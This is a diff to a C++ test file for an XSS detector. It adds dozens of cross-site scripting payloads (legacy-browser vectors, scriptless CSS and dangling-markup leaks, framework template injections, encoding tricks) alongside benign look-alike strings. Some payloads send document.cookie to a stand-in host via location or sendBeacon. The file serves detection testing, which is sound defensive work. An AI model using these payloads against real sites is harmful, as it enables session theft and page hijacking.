@@ -62,6 +62,33 @@ INSTANTIATE_TEST_SUITE_P(Handlers, IsScript,
                                          "<b \x0bonclick=alert(1)>", "<b onclick=\\\"alert(1)\\\">",
                                          "</b onclick=alert(1)>", "<img src=`x`onerror=alert(1)>",
                                          "<iframe id=x/////onload=alert(1)>"));
+INSTANTIATE_TEST_SUITE_P(
+    OldReaders, IsScript,
+    testing::Values("<img src=x onerror/=alert(1)>", "<body onload!#$%&*~+=alert(1)>",
+                    "<scrscriptipt>alert(1)</scrscriptipt>", "<img src=&{alert(1)};>",
+                    "&{document.cookie=1};", "<xml id=i src=//a.example/x.xml></xml>",
+                    "<import namespace=t implementation=#default#time2>",
+                    "<xml id=i><img src='javas<!-- -->cript:alert(1)'></xml>",
+                    "<x><![CDATA[<img src='javas]]><![CDATA[cript:alert(1)'>]]>",
+                    "<handler ev:event=load>alert(1)</handler>",
+                    "<x ev:event=load ev:handler='a.svg#x'/>"));
+INSTANTIATE_TEST_SUITE_P(
+    WithoutScripts, IsScript,
+    testing::Values("<input type=submit formaction=//a.example/>", "<base target='",
+                    "<img src='//a.example/?x=", "<a id=c><a id=c name=url href=//a.example>",
+                    "<form><input name=parentNode>", "<a href=http://3405803783/>x</a>",
+                    "<a href=http://0313.00.0161.07/>x</a>",
+                    "<style>input[value^=a]{background:url(//a.example/a)}</style>",
+                    "<p style=\"font-family:'\\3cimg\\20src\\3dx\\20onerror\\3d alert(1)'\">",
+                    "<meta http-equiv=content-security-policy content=x>",
+                    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'>"));
+INSTANTIATE_TEST_SUITE_P(
+    Frameworks, IsScript,
+    testing::Values("<p @click=\"alert(1)\">", "<p :x=_c.constructor`alert(1)`()>",
+                    "<input ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
+                    "{{constructor.constructor('alert(1)')()}}",
+                    "{{this.constructor.constructor('alert(1)')()}}"));
+INSTANTIATE_TEST_SUITE_P(Probes, IsScript, testing::Values("'';!--\"<xss>=&{()}", "'\"()&%<abcd>"));
 INSTANTIATE_TEST_SUITE_P(InsideAttributes, IsScript,
                          testing::Values("\" onfocus=alert(1) autofocus x=\"",
                                          "'onmouseover='alert(1)", "\"><svg onload=alert(1)>",
@@ -69,14 +96,17 @@ INSTANTIATE_TEST_SUITE_P(InsideAttributes, IsScript,
                                          "x onerror=alert(1)", "1 autofocus onfocus=prompt(1)",
                                          "\" style=\"x:expression(alert(1))",
                                          "\" href=javascript:alert(1) x=\"", "` onclick=alert(1)"));
-INSTANTIATE_TEST_SUITE_P(InsideScripts, IsScript,
-                         testing::Values("';alert(1)//", "'-alert(1)-'",
-                                         "\"+confirm(document.domain)+\"", "\\';alert(1)//",
-                                         "');alert(1);//", "'}];alert(1);[{'", "`-alert(1)-`",
-                                         "${alert(1)}",
-                                         "';location='//a.example/?'+document.cookie;'",
-                                         "',alert(1),'", "'?alert(1):'", "';top['al'+'ert'](1)//",
-                                         "*/alert(1)/*", ";alert(1)//", "};alert(1);{"));
+INSTANTIATE_TEST_SUITE_P(
+    InsideScripts, IsScript,
+    testing::Values("';alert(1)//", "'-alert(1)-'", "\"+confirm(document.domain)+\"",
+                    "\\';alert(1)//", "');alert(1);//", "'}];alert(1);[{'", "`-alert(1)-`",
+                    "${alert(1)}", "';location='//a.example/?'+document.cookie;'", "',alert(1),'",
+                    "'?alert(1):'", "';top['al'+'ert'](1)//", "*/alert(1)/*", ";alert(1)//",
+                    "};alert(1);{", "/;alert(1)//", "onerror=alert;throw 1",
+                    "valueOf=alert;window+''", "'-eval('alert(1)')-'",
+                    "s='java'+'scri'+'pt:al'+'ert(1)';URL=s", "1[a+b](c+d)",
+                    "with(document)alert(cookie)", "document.__parent__._=alert",
+                    "navigator.sendBeacon('//a.example',document.cookie)"));
 INSTANTIATE_TEST_SUITE_P(
     Addresses, IsScript,
     testing::Values("javascript:alert(1)", "JaVa\tScRiPt\n:alert(1)", "\x01javascript:alert(1)",
@@ -101,6 +131,13 @@ INSTANTIATE_TEST_SUITE_P(Disguises, IsScript,
                                          "\\u003cscript\\u003ealert(1)"));
 TEST(Script, InUtf7) {
   EXPECT_EQ(class_of("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), "xss");
+  EXPECT_EQ(class_of("+ADw-p+AD4-(x)+ADw-/p+AD4-"), "xss");
+}
+TEST(Script, InLettersThatFold) {
+  EXPECT_EQ(class_of("<\xc5\xbf"
+                     "cript>alert(1)"),
+            "xss");
+  EXPECT_EQ(class_of("<\xc4\xb1mg src=x onerror=alert(1)>"), "xss");
 }
 
 class IsNoScript : public testing::TestWithParam<const char*> {};
@@ -117,7 +154,12 @@ INSTANTIATE_TEST_SUITE_P(
                     "\"quoted\" text=1", "\"only\" one=1", "the \"onclick\" attribute",
                     "\"onclick\" = what?", "high alert!", "confirm(ed) bookings",
                     "O'Neil's alert (new)", "learn javascript: a guide", "on sale=yes",
-                    "please confirm (yes/no)", "expression(s) of love", "1 (one) of 2"));
+                    "please confirm (yes/no)", "expression(s) of love", "1 (one) of 2",
+                    "write </script> at the end", "postscript: (none)", "6'\"<x>", "AT&T {us}",
+                    "\"e\"+\"mail\"", "[\"e\",\"val\"]", "with (open(f) as g)",
+                    "the ``name`` argument of ``find``", "f(a=None, body=None)",
+                    "const Function &f(x)", "use ``a`` (see ``b``)", "', dest='z', action='store'",
+                    "/a;b(c)/"));
 INSTANTIATE_TEST_SUITE_P(
     Markup, IsNoScript,
     testing::Values("<b>bold</b>", "<p class=\"x\">text</p>",
@@ -129,7 +171,15 @@ INSTANTIATE_TEST_SUITE_P(
                     "<!-- wp:paragraph --><p>x</p>", "<svg width=\"1\"><path d=\"M0 0\"/></svg>",
                     "<form action=\"/search\"><input name=q></form>",
                     "<link rel=\"alternate\" href=\"https://a.example/feed\"/>",
-                    "<a class=\"x\" onclick=\"openMenu(this)\">x</a>"));
+                    "<a class=\"x\" onclick=\"openMenu(this)\">x</a>",
+                    "<a href=\"#\" onclick=\"return false;\">x</a>",
+                    "<xml><a><![CDATA[x]]></a></xml>", "<import id=\"1\" src=\"orders.csv\"/>",
+                    "<?xml:namespace prefix = o ns = \"urn:schemas-microsoft-com:office:office\"/>",
+                    "<job event=\"done\" handler=\"notify\"/>", "<img src=\"//cdn.example/a.png",
+                    "<object data=\"/a.pdf\" type=\"application/pdf\"></object>",
+                    "<a href=\"http://192.0.2.1/\">x</a>", "<a id=\"a\" name=\"a\">x</a>",
+                    "<p @click=\"open = !open\">x</p>",
+                    "<style>a[href^=http]{background:url(//cdn.example/x.png)}</style>"));
 INSTANTIATE_TEST_SUITE_P(
     Addresses, IsNoScript,
     testing::Values("javascript:void(0)", "javascript:;", "javascript:", "javascript:void(0);",
@@ -183,23 +233,28 @@ Work work_on(std::string_view value) {
 
 // Attackers choose the bytes: work must not grow faster than their number.
 TEST(Script, HostileShapesTakeLinearWork) {
-  const std::string pieces[] = {"<a ",        "<a \"",
-                                "<script>",   "<style>",
-                                "on=",        "onload=x ",
-                                "'",          "\"(",
-                                "`${",        "data:,",
-                                "\t:",        "{{",
-                                "[",          "javascript:",
-                                "alert(",     "<!--",
-                                "/*",         "'+'",
-                                "onload='",   "<?x ",
-                                "</script>",  "+ADw",
-                                "\xbc/",      "&#",
-                                "\\'",        "<a b=c ",
-                                "(",          "<svg/onload=",
-                                "]['",        "<b on=\"",
-                                "'alert(1)'", "*/",
-                                "<a href='",  "=\"onclick=alert(1) "};
+  const std::string pieces[] = {"<a ",         "<a \"",
+                                "<script>",    "<style>",
+                                "on=",         "onload=x ",
+                                "'",           "\"(",
+                                "`${",         "data:,",
+                                "\t:",         "{{",
+                                "[",           "javascript:",
+                                "alert(",      "<!--",
+                                "/*",          "'+'",
+                                "onload='",    "<?x ",
+                                "</script>",   "+ADw",
+                                "\xbc/",       "&#",
+                                "\\'",         "<a b=c ",
+                                "(",           "<svg/onload=",
+                                "]['",         "<b on=\"",
+                                "'alert(1)'",  "*/",
+                                "<a href='",   "=\"onclick=alert(1) ",
+                                "&{alert(1)}", "<a @b='(",
+                                "'a'+",        "eval('(",
+                                "]{url(",      "\\28(",
+                                "-->c:",       "<handler ev:event=x>",
+                                "<x !=",       "document/**/."};
   for (const std::string& piece : pieces) {
     std::string value;
     while (value.size() < kMaxValueBytes / 2) value += piece;
